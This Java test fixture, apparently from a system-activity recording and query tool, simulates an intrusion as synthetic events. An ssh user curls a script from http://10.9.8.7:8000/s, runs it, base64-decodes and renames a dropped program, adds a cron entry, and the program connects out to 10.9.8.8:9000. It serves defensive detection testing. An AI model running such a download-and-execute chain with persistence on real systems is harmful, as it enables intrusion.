package io.drec.query.question;

import io.drec.record.LossCause;
import io.drec.sample.Flow;
import io.drec.sample.Frames;
import io.drec.sample.Proc;
import io.drec.sample.Session;

/**
 * The rehearsal's shape: somebody logged in over ssh downloads a script and runs it; it drops a
 * program, renames it, runs it and leaves a crontab behind; the program calls out.
 */
final class Intrusion {
  static final String DROPPED = "/opt/demo/update";

  final Frames frames = new Frames();
  final Proc sshd;
  final Proc login;
  final Proc curl;
  final Proc script;
  final Proc writer;
  final Proc mover;
  final Proc program;
  final Proc bystander;
  final Session dropped;
  final Flow download;
  final Flow call;

  Intrusion() {
    frames.start();
    frames.notCaptured("pipes and local sockets");
    Proc init = frames.running(1, "/sbin/init", "/sbin/init");
    sshd = frames.running(50, init, "/usr/sbin/sshd", "sshd");
    sshd.accept("198.51.100.9", 50_123);
    login = sshd.fork(100).cwd("/opt/demo").exec("/bin/bash", "-bash");

    bystander = login.fork(110).exec("/usr/bin/wget", "wget", "http://192.0.2.77/other");
    Flow unrelated = bystander.connect("192.0.2.77", 80);
    Session other = bystander.create("/opt/demo/other", 71);
    other.close(9_000);
    unrelated.close(100, 9_000);
    bystander.exit(0);

    curl =
        login.fork(200).exec("/usr/bin/curl", "curl", "-o", "stage.sh", "http://10.9.8.7:8000/s");
    download = curl.connect("10.9.8.7", 8000);
    Session saved = curl.create("/opt/demo/stage.sh", 72);
    saved.close(812);
    download.close(80, 1_024);
    curl.exit(0);

    script = login.fork(201).exec("/bin/sh", "sh", "stage.sh");
    Session run = script.read("/opt/demo/stage.sh", 72);
    writer = script.fork(202);
    dropped = writer.create("/opt/demo/dropper.part", Proc.inodeOf(DROPPED));
    writer.exec("/usr/bin/base64", "base64", "-d");
    dropped.close(2_310);
    writer.exit(0);
    mover = script.fork(203).exec("/bin/mv", "mv", "dropper.part", "update");
    mover.rename("/opt/demo/dropper.part", DROPPED);
    mover.exit(0);
    script.fork(204).exec("/bin/chmod", "chmod", "700", "update").chmod(DROPPED, 0700).exit(0);
    script.create("/opt/demo/cron.d/update", 74).close(40);
    program = script.fork(205);
    program.exec(DROPPED, "./update", "10.9.8.8:9000");
    call = program.connect("10.9.8.8", 9000);
    call.close(10, 0);
    program.exit(0);
    run.close(812);
    script.exit(0);
  }

  Intrusion lossBeforeTheEnd() {
    long toNs = frames.nowNs();
    frames.lost(LossCause.RING_FULL, toNs - 3 * Frames.MS, toNs - 2 * Frames.MS, 17);
    return this;
  }
}
